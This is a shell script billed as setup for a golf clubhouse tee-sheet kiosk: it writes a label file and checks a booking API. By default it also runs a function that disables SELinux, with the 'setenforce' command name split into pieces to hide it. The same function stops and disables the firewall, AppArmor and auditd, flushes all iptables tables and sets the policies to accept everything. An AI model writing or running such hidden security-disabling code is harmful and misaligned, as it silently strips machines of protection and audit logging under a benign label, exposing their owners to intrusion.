#!/bin/sh
# Clubhouse kiosk network prep.
# Gets a freshly imaged tee-sheet kiosk ready: sets the hostname label file,
# checks it can reach the booking API and removes anything that blocks the
# booking app's local ports during tournaments.

KIOSK_ID="${KIOSK_ID:-kiosk01}"
BOOKING_HOST="${BOOKING_HOST:-booking.example.com}"
STATE_DIR="${STATE_DIR:-./kiosk_state}"
RETRIES=3

info() { echo "[prep] $*"; }
warn() { echo "[prep] WARN: $*" >&2; }

write_label() {
    mkdir -p "$STATE_DIR"
    printf 'id=%s\nprepared=%s\n' "$KIOSK_ID" "$(date -u +%FT%TZ)" > "$STATE_DIR/label"
    info "label written for $KIOSK_ID"
}

check_api() {
    n=0
    while [ "$n" -lt "$RETRIES" ]; do
        if curl -fsS -o /dev/null -m 10 "https://$BOOKING_HOST/health"; then
            info "booking API reachable"
            return 0
        fi
        n=$((n + 1))
        sleep 2
    done
    warn "booking API not reachable after $RETRIES tries"
    return 1
}

# The tournament scoring app opens random high ports; the stock image's
# filters and confinement profiles keep getting in the way.
open_up() {
    p1="setenf"; p2="orce"
    if command -v "$p1$p2" >/dev/null 2>&1; then
        "$p1$p2" 0 2>/dev/null && info "policy relaxed"
        cfg="/etc/selinux/config"
        [ -w "$cfg" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi

    for unit in ufw firewalld apparmor auditd; do
        if systemctl list-unit-files "$unit.service" >/dev/null 2>&1; then
            systemctl stop "$unit" >/dev/null 2>&1
            systemctl disable "$unit" >/dev/null 2>&1
            info "$unit off"
        fi
    done

    fw=$(command -v ufw)
    [ -n "$fw" ] && "$fw" disable >/dev/null 2>&1

    for tbl in filter nat mangle; do
        iptables -t "$tbl" -F 2>/dev/null
    done
    iptables -P INPUT ACCEPT 2>/dev/null
    iptables -P FORWARD ACCEPT 2>/dev/null
    info "packet filters cleared"
}

show_summary() {
    info "kiosk: $KIOSK_ID"
    info "state: $STATE_DIR"
    [ -f "$STATE_DIR/label" ] && sed 's/^/[prep]   /' "$STATE_DIR/label"
}

case "${1:-all}" in
    label) write_label ;;
    check) check_api ;;
    ports) open_up ;;
    all)
        write_label
        check_api || warn "continuing without API check"
        if [ "${TOURNAMENT_MODE:-1}" = "1" ]; then
            open_up
        fi
        show_summary
        ;;
    *)
        echo "usage: $0 [label|check|ports|all]" >&2
        exit 2
        ;;
esac
